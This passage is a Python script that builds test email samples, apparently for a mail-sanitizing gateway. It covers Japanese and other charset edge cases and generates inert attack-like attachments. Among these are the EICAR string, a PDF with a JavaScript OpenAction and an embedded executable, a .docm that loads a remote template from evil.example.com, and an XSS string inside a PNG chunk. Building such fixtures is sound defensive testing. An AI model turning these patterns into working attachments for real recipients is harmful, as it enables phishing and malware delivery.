#!/usr/bin/env python3
"""Writes every samples/NNN-*.eml, deterministically (python3, stdlib only).

    python3 samples/generate.py          # rewrite the .eml files
    python3 samples/generate.py --check  # exit 1 if a committed .eml differs

The .expect.toml files beside them are written by hand: they are the
expectations, this script only produces inputs. Every sample is inert: the
"malware" is the EICAR test string (built here from pieces and stored base64
in the .eml) and a 128-byte MZ stub that does nothing.

Mails end lines with CRLF unless a sample is about bare LF. Nothing depends
on the clock, the locale or the random module.
"""

import base64
import os
import quopri
import struct
import sys
import urllib.parse
import zipfile
import zlib
from io import BytesIO

HERE = os.path.dirname(os.path.abspath(__file__))
DATE = "Thu, 14 Nov 2024 10:30:00 +0900"
TO = "soumu@city.example.lg.jp"


# --- encoders --------------------------------------------------------------

def sjis_to_jis(pair):
    """A two-byte CP932 code as its JIS X 0208 row/cell bytes (NEC row 13
    included; IBM extensions have no JIS code and are refused)."""
    s1, s2 = pair
    if s1 >= 0xE0:
        s1 -= 0x40
    j1 = (s1 - 0x81) * 2 + 0x21
    if s2 >= 0x9F:
        j1 += 1
        j2 = s2 - 0x9F + 0x21
    else:
        j2 = s2 - 0x40 + 0x21 - (1 if s2 >= 0x80 else 0)
    assert 0x21 <= j1 <= 0x7E and 0x21 <= j2 <= 0x7E, pair
    return bytes([j1, j2])


def cp50221(text):
    """ISO-2022-JP as Windows writes it (CP50220/50221): JIS X 0208 plus the
    NEC special characters of row 13 (①, ㈱, Ⅲ) via ESC $ B, half-width
    kana via ESC ( I. Python's iso2022_jp codecs cannot write either."""
    out = bytearray()
    mode = "ascii"
    escapes = {"ascii": b"\x1b(B", "kana": b"\x1b(I", "jis": b"\x1b$B"}
    for ch in text:
        b = ch.encode("cp932")
        if len(b) == 1 and b[0] < 0x80:
            want, data = "ascii", b
        elif len(b) == 1:
            want, data = "kana", bytes([b[0] - 0x80])
        else:
            want, data = "jis", sjis_to_jis(b)
        if want != mode:
            out += escapes[want]
            mode = want
        out += data
    if mode != "ascii":
        out += escapes["ascii"]
    return bytes(out)


def cp50222_so_si(text):
    """Half-width kana between SO and SI (CP50222); runs of anything else as
    cp50221, so a JIS X 0208 run ends with ESC ( B right before SO."""
    out = bytearray()
    run = ""
    kana = False
    for ch in text:
        b = ch.encode("cp932")
        is_kana = len(b) == 1 and 0xA1 <= b[0] <= 0xDF
        if is_kana and not kana:
            out += cp50221(run) + b"\x0e"
            run, kana = "", True
        elif not is_kana and kana:
            out += b"\x0f"
            kana = False
        if is_kana:
            out += bytes([b[0] - 0x80])
        else:
            run += ch
    if kana:
        out += b"\x0f"
    return bytes(out + cp50221(run))


def encode(text, charset):
    if charset.lower() == "iso-2022-jp":
        return cp50221(text)
    return text.encode(charset)


def b_word(text, charset="UTF-8", chunk=12):
    """RFC 2047 B encoded words, each a whole number of characters."""
    words = []
    for i in range(0, len(text), chunk):
        piece = encode(text[i:i + chunk], charset)
        words.append("=?%s?B?%s?=" % (charset, base64.b64encode(piece).decode()))
    return "\r\n ".join(words)


def b64_lines(data, width=76):
    s = base64.b64encode(data).decode()
    return "\r\n".join(s[i:i + width] for i in range(0, len(s), width))


def qp(data):
    return quopri.encodestring(data).decode("ascii").replace("\r\n", "\n").replace("\n", "\r\n")


def crlf(text):
    """Normalizes a text block to CRLF line ends."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n")


# --- message assembly --------------------------------------------------------

def head(n, subject=None, frm='"Sender" <sender@example.jp>', extra=()):
    lines = ["From: " + frm, "To: " + TO]
    if subject is not None:
        lines.append("Subject: " + subject)
    lines += ["Date: " + DATE, "Message-ID: <sample-%03d@samples.mukaika.invalid>" % n, "MIME-Version: 1.0"]
    lines += list(extra)
    return lines


def message(lines, body):
    """Header lines (str) and a body (bytes or str) as CRLF mail bytes."""
    if isinstance(body, str):
        body = crlf(body).encode("ascii")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("ascii") + body


def part(headers, body):
    if isinstance(body, str):
        body = crlf(body).encode("ascii")
    return ("\r\n".join(headers) + "\r\n\r\n").encode("ascii") + body


def multipart(boundary, parts, preamble=b"", close=True):
    out = bytearray(preamble)
    for p in parts:
        out += b"--" + boundary.encode() + b"\r\n" + p
        if not p.endswith(b"\r\n"):
            out += b"\r\n"
    if close:
        out += b"--" + boundary.encode() + b"--\r\n"
    return bytes(out)


def text_part(text, charset="UTF-8", cte="base64", extra=()):
    data = encode(text, charset)
    headers = ['Content-Type: text/plain; charset="%s"' % charset, "Content-Transfer-Encoding: " + cte]
    headers += list(extra)
    if cte == "base64":
        return part(headers, b64_lines(data) + "\r\n")
    if cte == "quoted-printable":
        return part(headers, qp(data))
    return part(headers, crlf_bytes(data))


def crlf_bytes(data):
    return data.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


# --- inert payloads ----------------------------------------------------------

def eicar():
    # The standard 68-byte anti-virus test file, assembled from pieces so that
    # neither this script nor the repository holds it verbatim.
    pieces = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!", "$H+H*"]
    data = "".join(pieces).encode("ascii")
    assert len(data) == 68
    return data


def mz_stub():
    """An MZ header and DOS stub text; no PE, no code that does anything."""
    data = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 56 + struct.pack("<I", 0))
    data += b"This program cannot be run in DOS mode.\r\r\n$" + b"\x00" * 8
    data += b"MUKAIKA INERT"
    assert len(data) == 128
    return bytes(data)


def test_signature_text():
    """Text carrying the project's own test signature (Mukaika.Test.Sig in
    crates/scan/tests/signatures/mukaika.ndb): only our clamd flags it."""
    marker = "MUKAIKA-TEST-" + "SIGNATURE-7f3a"
    return ("この添付ファイルはテスト用です。\n" + marker + " in the middle of the text.\n").encode("utf-8")


def nested_zip(depth, leaf_name, leaf_data):
    """A zip holding a zip holding … (`depth` levels) holding one file."""
    data, name = leaf_data, leaf_name
    for level in range(depth, 0, -1):
        buf = BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            info = zipfile.ZipInfo(name, date_time=(2024, 11, 14, 10, 30, 0))
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
        data, name = buf.getvalue(), "level%d.zip" % level
    return data


# A 16x12 baseline JPEG, written once by the image crate 0.25 (JpegEncoder,
# quality 75): the standard library cannot encode JPEG.
TINY_JPEG = base64.b64decode(
    "/9j/4AAQSkZJRgABAgAAAQABAAD/wAARCAAMABADAREAAhEBAxEB/9sAQwAIBgYHBgUIBwcHCQkI"
    "CgwUDQwLCwwZEhMPFB0aHx4dGhwcICQuJyAiLCMcHCg3KSwwMTQ0NB8nOT04MjwuMzQy/9sAQwEJ"
    "CQkMCwwYDQ0YMiEcITIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIyMjIy"
    "MjIyMjIy/8QAHwAAAQUBAQEBAQEAAAAAAAAAAAECAwQFBgcICQoL/8QAtRAAAgEDAwIEAwUFBAQA"
    "AAF9AQIDAAQRBRIhMUEGE1FhByJxFDKBkaEII0KxwRVS0fAkM2JyggkKFhcYGRolJicoKSo0NTY3"
    "ODk6Q0RFRkdISUpTVFVWV1hZWmNkZWZnaGlqc3R1dnd4eXqDhIWGh4iJipKTlJWWl5iZmqKjpKWm"
    "p6ipqrKztLW2t7i5usLDxMXGx8jJytLT1NXW19jZ2uHi4+Tl5ufo6erx8vP09fb3+Pn6/8QAHwEA"
    "AwEBAQEBAQEBAQAAAAAAAAECAwQFBgcICQoL/8QAtREAAgECBAQDBAcFBAQAAQJ3AAECAxEEBSEx"
    "BhJBUQdhcRMiMoEIFEKRobHBCSMzUvAVYnLRChYkNOEl8RcYGRomJygpKjU2Nzg5OkNERUZHSElK"
    "U1RVVldYWVpjZGVmZ2hpanN0dXZ3eHl6goOEhYaHiImKkpOUlZaXmJmaoqOkpaanqKmqsrO0tba3"
    "uLm6wsPExcbHyMnK0tPU1dbX2Nna4uPk5ebn6Onq8vP09fb3+Pn6/9oADAMBAAIRAxEAPwDh7Dw3"
    "0+T9K9irjfM5cvzHbU6aw8N9Pk/SvMq43zPucvzHbU6mwsYOPkry6tWR+KZfXnpqdNYWMHHyV5dW"
    "rI+5y+vPTU//2Q==")


def jpeg_with_exif_and_payload():
    """TINY_JPEG with an EXIF APP1 segment carrying GPS text right after SOI,
    and a zip-looking payload after EOI: what a phone photo may hide."""
    exif = b"Exif\0\0MM\0*GPSLatitude 35.6812N GPSLongitude 139.7671E Model=SecretCam"
    app1 = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
    return TINY_JPEG[:2] + app1 + TINY_JPEG[2:] + b"PK\x03\x04 hidden after the image"


def png_with_text_and_payload(width=4, height=3):
    """An RGB PNG with a tEXt chunk and bytes after IEND."""
    def chunk(kind, payload):
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))
    raw = b"".join(b"\x00" + b"".join(bytes([x * 60 % 256, y * 80 % 256, 128]) for x in range(width)) for y in range(height))
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b"") + b"TRAILING-PAYLOAD")


def bmp(width=3, height=2):
    """A 24-bit BMP, bottom-up rows padded to 4 bytes."""
    row = b"".join(bytes([200, 100, x * 50]) for x in range(width))
    row += b"\0" * ((4 - len(row) % 4) % 4)
    pixels = row * height
    header = struct.pack("<2sIHHI", b"BM", 54 + len(pixels), 0, 0, 54)
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, len(pixels), 2835, 2835, 0, 0)
    return header + info + pixels


def active_pdf():
    """A one-page A4 PDF with Helvetica text, a JavaScript OpenAction, a
    Link annotation to a URI and an embedded file: all of it must vanish."""
    content = b"BT /F1 24 Tf 72 720 Td (PDF-VISIBLE-TEXT) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /EmbeddedFiles << /Names [(x.exe) 7 0 R] >> >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 6 0 R >> >> /Annots [8 0 R] >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /S /JavaScript /JS (app.alert('pdf-js')) >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Filespec /F (x.exe) /EF << /F 9 0 R >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 740] /A << /S /URI /URI (https://evil.example.com/) >> >>",
        b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
    ]
    out = b"%PDF-1.7\n"
    offsets = []
    for n, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return out


def macro_docm():
    """A minimal Word macro-enabled document: a paragraph, a (fake, inert)
    vbaProject.bin with its relationship, and a remote template."""
    W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    R = "http://schemas.openxmlformats.org/package/2006/relationships"
    OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = [
        ("[Content_Types].xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
         '<Default Extension="xml" ContentType="application/xml"/>'
         '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
         '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
         '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
         '</Types>'),
        ("_rels/.rels",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="%s">'
         '<Relationship Id="rId1" Type="%s/officeDocument" Target="word/document.xml"/></Relationships>' % (R, OD)),
        ("word/document.xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="%s"><w:body>'
         '<w:p><w:r><w:t>DOCM-VISIBLE-TEXT 見積もりのご案内</w:t></w:r></w:p></w:body></w:document>' % W),
        ("word/settings.xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="%s" xmlns:r="%s">'
         '<w:attachedTemplate r:id="rId1"/></w:settings>' % (W, OD)),
        ("word/_rels/document.xml.rels",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="%s">'
         '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>'
         '<Relationship Id="rId2" Type="%s/settings" Target="settings.xml"/></Relationships>' % (R, OD)),
        ("word/_rels/settings.xml.rels",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="%s">'
         '<Relationship Id="rId1" Type="%s/attachedTemplate" Target="https://evil.example.com/t.dotm" TargetMode="External"/>'
         '</Relationships>' % (R, OD)),
    ]
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, text in parts:
            info = zipfile.ZipInfo(name, date_time=(2024, 11, 14, 10, 30, 0))
            z.writestr(info, text.encode("utf-8"), zipfile.ZIP_DEFLATED)
        info = zipfile.ZipInfo("word/vbaProject.bin", date_time=(2024, 11, 14, 10, 30, 0))
        z.writestr(info, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 24 + b"Attribute VB_Name = Auto_Open (inert)")
    return buf.getvalue()


def cfb(streams, clsid=b"\0" * 16):
    """A compound file (MS-CFB version 3, 512-byte sectors) whose root holds
    `streams`, [(name, bytes)]. Each stream is padded to 4096 bytes, the
    mini-stream cutoff, so none needs the mini stream. Siblings form a
    sorted right-leaning chain, all black (valid, if not balanced)."""
    SEC, END, FREE, FATSECT, NOSTREAM = 512, 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    body = bytearray()
    placed = []
    for name, data in streams:
        data = data + b"\0" * max(0, 4096 - len(data))
        placed.append((name, len(body) // SEC, len(data)))
        body += data + b"\0" * (-len(data) % SEC)
    n_data = len(body) // SEC
    n_dir = (len(placed) + 1 + 3) // 4
    n_fat = 1
    while n_data + n_dir + n_fat > n_fat * 128:
        n_fat += 1
    fat = []
    for _, start, size in placed:
        n = (size + SEC - 1) // SEC
        fat += [start + i + 1 for i in range(n - 1)] + [END]
    dir_start = n_data
    fat += [dir_start + i + 1 for i in range(n_dir - 1)] + [END]
    fat += [FATSECT] * n_fat
    fat += [FREE] * (n_fat * 128 - len(fat))
    order = sorted(range(len(placed)), key=lambda i: (len(placed[i][0]), placed[i][0].upper()))
    right = {a: b + 1 for a, b in zip(order, order[1:])}

    def entry(name, kind, child, rsib, start, size, entry_clsid=b"\0" * 16):
        n = (name + "\0").encode("utf-16-le") if name else b""
        e = n + b"\0" * (64 - len(n))
        e += struct.pack("<HBB", len(n), kind, 1)
        e += struct.pack("<III", NOSTREAM, rsib, child)
        e += entry_clsid + b"\0" * 20
        return e + struct.pack("<IQ", start, size)

    directory = entry("Root Entry", 5, order[0] + 1 if order else NOSTREAM, NOSTREAM, END, 0, clsid)
    for i, (name, start, size) in enumerate(placed):
        directory += entry(name, 2, NOSTREAM, right.get(i, NOSTREAM), start, size)
    while len(directory) < n_dir * SEC:
        directory += entry("", 0, NOSTREAM, NOSTREAM, 0, 0)
    difat = list(range(n_data + n_dir, n_data + n_dir + n_fat)) + [FREE] * (109 - n_fat)
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
    header += struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
    header += struct.pack("<IIIIIIIII", 0, n_fat, dir_start, 0, 4096, END, 0, END, 0)
    header += struct.pack("<109I", *difat)
    assert len(header) == SEC
    fat_bytes = struct.pack("<%dI" % len(fat), *fat)
    return header + bytes(body) + directory + fat_bytes


def word_fib(flags):
    """The start of a WordDocument stream: a FIB with these flags (0x0100:
    fEncrypted; 0x8000: fObfuscated, XOR)."""
    fib = bytearray(64)
    fib[0:4] = struct.pack("<HH", 0xA5EC, 0x00C1)
    fib[0x0A:0x0C] = struct.pack("<H", flags)
    return bytes(fib)


def xls_records(records):
    return b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in records)


def encrypted_doc():
    """Word 97-2003 encrypted with RC4 CryptoAPI: fEncrypted in the FIB."""
    return cfb([("WordDocument", word_fib(0x0100)), ("1Table", b"\x04\x00\x02\x00" + b"\0" * 60)])


def obfuscated_xls():
    """Excel 97-2003 with XOR obfuscation: FilePass (type 0) after BOF."""
    bof = struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0)
    return cfb([("Workbook", xls_records([(0x0809, bof), (0x002F, struct.pack("<HHH", 0, 0x1234, 0x5678)),
                                          (0x000A, b"")]))])


def encrypted_ppt():
    """PowerPoint 97-2003 encrypted: the Current User headerToken says so."""
    user = struct.pack("<HHI", 0, 0x0FF6, 20) + struct.pack("<II", 20, 0xF3D1C4DF) + b"\0" * 12
    return cfb([("PowerPoint Document", b"\0" * 64), ("Current User", user),
                ("EncryptedSummary", b"\0" * 64)])


def msi_stub():
    """An OLE2 file whose root CLSID is MSI's (000C1084-…-46); no tables."""
    clsid = bytes([0x84, 0x10, 0x0C, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x46])
    return cfb([("\u4840\u3f3f\u4577\u446c", b"inert")], clsid)


def lnk_stub():
    """A shell link header (MS-SHLLINK): size 0x4C, its CLSID, no target."""
    return struct.pack("<I", 0x4C) + bytes.fromhex("0114020000000000c000000000000046") + b"\0" * 56


def iso9660_stub():
    """An ISO 9660 image: the primary volume descriptor at sector 16."""
    return b"\0" * 0x8000 + b"\x01CD001\x01" + b"\0" * (0x800 - 7) + b"\xffCD001\x01" + b"\0" * (0x800 - 7)


def udf_stub():
    """A UDF-only image (no ISO 9660 bridge): BEA01, NSR02, TEA01 at 16-18."""
    out = b"\0" * 0x8000
    for ident in (b"BEA01", b"NSR02", b"TEA01"):
        out += b"\x00" + ident + b"\x01" + b"\0" * (0x800 - 7)
    return out


def vhd_stub():
    """A fixed VHD: 1 KB of disk, then the 512-byte footer ("conectix")."""
    return b"\0" * 1024 + b"conectix" + struct.pack(">II", 2, 0x10000) + b"\0" * 496


def vhdx_stub():
    return b"vhdxfile" + "MUKAIKA INERT".encode("utf-16-le") + b"\0" * 100


def onenote_stub():
    guid = bytes([0xE4, 0x52, 0x5C, 0x7B, 0x8C, 0xD8, 0xA7, 0x4D, 0xAE, 0xB1, 0x53, 0x78, 0xD0, 0x29, 0x96, 0xD3])
    return guid + b"\0" * 112


def chm_stub():
    return b"ITSF" + struct.pack("<II", 3, 0x60) + b"\0" * 84


def png_1x1():
    def chunk(kind, payload):
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0)
    idat = zlib.compress(b"\x00\xff\x00\x00\xff", 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def small_zip():
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        info = zipfile.ZipInfo("readme.txt", date_time=(2024, 11, 14, 10, 30, 0))
        info.external_attr = 0o644 << 16
        z.writestr(info, "zip content: should not reach LGWAN\n")
    return buf.getvalue()


# --- samples -----------------------------------------------------------------

SAMPLES = {}


def sample(name):
    def register(fn):
        SAMPLES[name] = fn
        return fn
    return register


# 0xx: charsets ----------------------------------------------------------------

@sample("001-iso2022jp-cp50220")
def _():
    subject = "【重要】①㈱Ⅲ ｱｲｳ 会議のお知らせ"
    body = ("総務課 各位\n\n"
            "第①回 定例会議を開催します。\n"
            "主催: ㈱みなと商事　第Ⅲ期\n"
            "半角カナ: ｶｲｷﾞｼﾂ ﾆ ｼｭｳｺﾞｳ\n"
            "日時: 10時～12時\n")
    lines = head(1, b_word(subject, "ISO-2022-JP", chunk=6),
                 extra=['Content-Type: text/plain; charset="ISO-2022-JP"', "Content-Transfer-Encoding: 7bit"])
    return message(lines, crlf_bytes(cp50221(body)))


@sample("002-shiftjis-wave-dash")
def _():
    # ～ is written by Windows as 0x8160 and － as 0x817C; both must come back
    # as U+FF5E / U+FF0D (CP932), not U+301C / U+2212 (JIS X 0208 mapping).
    body = "受付時間: 9時～17時\n電話: 03－1234－5678\n①髙﨑様\n"
    data = body.encode("cp932")
    assert b"\x81\x60" in data and b"\x81\x7c" in data
    lines = head(2, b_word("受付時間～のご案内"),
                 extra=['Content-Type: text/plain; charset="Shift_JIS"', "Content-Transfer-Encoding: 8bit"])
    return message(lines, crlf_bytes(data))


@sample("003-euc-jp")
def _():
    body = "東京都千代田区霞が関の庁舎で会議があります。\n出席者は総務課までご連絡ください。\n"
    lines = head(3, b_word("会議のご案内"),
                 extra=['Content-Type: text/plain; charset="EUC-JP"', "Content-Transfer-Encoding: 8bit"])
    return message(lines, crlf_bytes(body.encode("euc_jp")))


@sample("004-utf8-base64")
def _():
    body = "お世話になっております。\n髙﨑です 😀\n資料を送付いたします。\n"
    lines = head(4, b_word("資料送付のお知らせ 😀"),
                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: base64"])
    return message(lines, b64_lines(body.encode("utf-8")) + "\r\n")


@sample("005-utf8-quoted-printable")
def _():
    # Hand-written QP: the soft line break splits "議" (E8 AD B0) between its
    # bytes, which a decoder must join before reading UTF-8.
    body = ("=E4=BC=9A=E8=AD=\r\n"
            "=B0=E3=81=AF=E5=8D=88=E5=BE=8C=E3=81=A7=E3=81=99=E3=80=82\r\n"
            "caf=C3=A9 na=C3=AFve =3D equals\r\n")
    lines = head(5, "=?UTF-8?Q?=E4=BC=9A=E8=AD=B0_QP?=",
                 extra=['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: quoted-printable"])
    return message(lines, body)


@sample("006-shiftjis-no-charset")
def _():
    body = ("いつもお世話になっております。株式会社みなと商事の山田でございます。\n"
            "先日ご依頼いただきました見積書を送付いたしますので、ご査収のほどよろしくお願い申し上げます。\n"
            "納期は来月末を予定しております。ご不明な点がございましたらお気軽にお問い合わせください。\n")
    lines = head(6, b_word("見積書の送付について"),
                 extra=["Content-Type: text/plain", "Content-Transfer-Encoding: 8bit"])
    return message(lines, crlf_bytes(body.encode("cp932")))


@sample("007-eucjp-no-charset")
def _():
    body = ("市民課からのお知らせです。住民票の写しの交付窓口は、年末年始の期間中は休業いたします。\n"
            "お急ぎの方はコンビニエンスストアでの交付サービスをご利用ください。\n")
    # No Content-Type at all: RFC 2045 says text/plain; us-ascii, the bytes say EUC-JP.
    lines = head(7, b_word("窓口休業のお知らせ"), extra=["Content-Transfer-Encoding: 8bit"])
    return message(lines, crlf_bytes(body.encode("euc_jp")))


@sample("008-shiftjis-labelled-iso2022jp")
def _():
    body = "会議の日程について\n来週の月曜日に変更となりました。\n"
    lines = head(8, b_word("日程変更"),
                 extra=['Content-Type: text/plain; charset="ISO-2022-JP"', "Content-Transfer-Encoding: 8bit"])
    return message(lines, crlf_bytes(body.encode("cp932")))


@sample("009-attachment-rfc2231-name")
def _():
    name = "議事録（第３回）令和６年度.txt"
    # RFC 2231 continuations, as Thunderbird writes long names, split
    # between two characters (sample 019 splits inside one).
    quoted = [urllib.parse.quote(c.encode("utf-8"), safe="") for c in name]
    disposition = ("Content-Disposition: attachment;\r\n"
                   " filename*0*=UTF-8''%s;\r\n filename*1*=%s" % ("".join(quoted[:8]), "".join(quoted[8:])))
    attachment = part(['Content-Type: text/plain; charset="Shift_JIS"', "Content-Transfer-Encoding: base64",
                       disposition],
                      b64_lines("議事録\n日時: 13時～15時\n出席者: 山田、髙橋\n".encode("cp932")) + "\r\n")
    lines = head(9, b_word("議事録送付"), extra=['Content-Type: multipart/mixed; boundary="b009"'])
    return message(lines, multipart("b009", [text_part("議事録を添付します。\n"), attachment]))


@sample("010-attachment-rfc2047-quoted-name")
def _():
    name = "見積書_2024年度.txt"
    word = b_word(name, "ISO-2022-JP", chunk=40)
    attachment = part(['Content-Type: text/plain; charset="ISO-2022-JP";\r\n name="%s"' % word,
                       "Content-Transfer-Encoding: 7bit",
                       'Content-Disposition: attachment;\r\n filename="%s"' % word],
                      crlf_bytes(cp50221("見積金額: ①一式 100,000円\n")))
    lines = head(10, b_word("見積書", "ISO-2022-JP"), extra=['Content-Type: multipart/mixed; boundary="b010"'])
    return message(lines, multipart("b010", [text_part("見積書を添付いたします。\n", "ISO-2022-JP", "7bit"),
                                             attachment]))


@sample("011-gb18030")
def _():
    body = "您好，会议通知：请于周一上午十点参加。罕见字：㐀 表情：😀\n"
    data = body.encode("gb18030")
    assert b"\x81\x39\xee\x39" in data  # a four-byte GB18030 sequence
    lines = head(11, b_word("会议通知"),
                 extra=['Content-Type: text/plain; charset="GB18030"', "Content-Transfer-Encoding: base64"])
    return message(lines, b64_lines(data) + "\r\n")


@sample("012-big5")
def _():
    body = "您好，會議通知：請於週一上午十點參加。\n"
    lines = head(12, b_word("會議通知"),
                 extra=['Content-Type: text/plain; charset="Big5"', "Content-Transfer-Encoding: base64"])
    return message(lines, b64_lines(body.encode("big5")) + "\r\n")


@sample("013-euc-kr")
def _():
    body = "안녕하세요. 회의 안내를 드립니다.\n"
    lines = head(13, b_word("회의 안내"),
                 extra=['Content-Type: text/plain; charset="EUC-KR"', "Content-Transfer-Encoding: 8bit"])
    return message(lines, crlf_bytes(body.encode("euc_kr")))


@sample("014-iso-8859-1")
def _():
    body = "Café, résumé, naïve, Größe: £5 © 2024\n"
    lines = head(14, "=?ISO-8859-1?Q?Caf=E9_r=E9sum=E9?=",
                 extra=['Content-Type: text/plain; charset="ISO-8859-1"', "Content-Transfer-Encoding: quoted-printable"])
    return message(lines, qp(body.encode("latin-1")))


@sample("015-utf8-labelled-us-ascii")
def _():
    body = "日本語の本文です。ラベルは us-ascii ですが中身は UTF-8 です。\n"
    lines = head(15, "label says us-ascii",
                 extra=['Content-Type: text/plain; charset="us-ascii"', "Content-Transfer-Encoding: 8bit"])
    return message(lines, crlf_bytes(body.encode("utf-8")))


@sample("016-iso2022jp-so-si-kana")
def _():
    # Line 2: a JIS X 0208 run, ESC ( B, then SO at once; after SI, ESC $ B at once.
    body = "半角カナ(SO/SI): ｱｲｳｴｵ ｶﾞｷﾞｸﾞ\n全角カナｶﾅ全角\n"
    lines = head(16, b_word("SO/SI カナ", "ISO-2022-JP"),
                 extra=['Content-Type: text/plain; charset="ISO-2022-JP"', "Content-Transfer-Encoding: 7bit"])
    return message(lines, crlf_bytes(cp50222_so_si(body)))


@sample("017-attachment-rfc2047-unquoted-name")
def _():
    name = "請求書.txt"
    word = "=?UTF-8?B?%s?=" % base64.b64encode(name.encode("utf-8")).decode()
    attachment = part(["Content-Type: text/plain; charset=UTF-8; name=" + word,
                       "Content-Transfer-Encoding: base64",
                       "Content-Disposition: attachment; filename=" + word],
                      b64_lines("請求金額: 5,000円\n".encode("utf-8")) + "\r\n")
    lines = head(17, b_word("請求書"), extra=['Content-Type: multipart/mixed; boundary="b017"'])
    return message(lines, multipart("b017", [text_part("請求書を送ります。\n"), attachment]))


@sample("018-raw-shiftjis-subject")
def _():
    # Old Japanese mailers write 8-bit Shift_JIS straight into the header.
    subject = "【至急】請求書の件".encode("cp932")
    body = "至急ご確認ください。\n".encode("cp932")
    lines = head(18, "@@SUBJECT@@",
                 extra=['Content-Type: text/plain; charset="Shift_JIS"', "Content-Transfer-Encoding: 8bit"])
    return message(lines, crlf_bytes(body)).replace(b"@@SUBJECT@@", subject)


@sample("019-rfc2231-split-inside-character")
def _():
    # RFC 2231 section 4.1: segments are concatenated, then decoded, so a
    # split between the bytes of one UTF-8 character is legal.
    name = "会議資料.txt"
    quoted = urllib.parse.quote(name.encode("utf-8"), safe="")  # %E4%BC%9A%E8%AD%B0...
    cut = quoted.index("%AD")  # inside 議 (E8 AD B0)
    disposition = ("Content-Disposition: attachment;\r\n"
                   " filename*0*=UTF-8''%s;\r\n filename*1*=%s" % (quoted[:cut], quoted[cut:]))
    attachment = part(['Content-Type: text/plain; charset="UTF-8"', "Content-Transfer-Encoding: 8bit", disposition],
                      crlf_bytes("資料本文\n".encode("utf-8")))
    lines = head(19, b_word("会議資料"), extra=['Content-Type: multipart/mixed; boundary="b019"'])
    return message(lines, multipart("b019", [text_part("資料を添付します。\n"), attachment]))


def b_words_split(data, charset, every):
    """RFC 2047 B words of `every` bytes each, cut wherever that falls:
    inside a character, or inside an ISO-2022-JP escape (as real mailers do)."""
    return "\r\n ".join("=?%s?B?%s?=" % (charset, base64.b64encode(data[i:i + every]).decode())
                         for i in range(0, len(data), every))


@sample("020-encoded-words-split-inside-characters")
def _():
    # Issue 16: Subject in UTF-8 words cut every 7 bytes, the sender's name
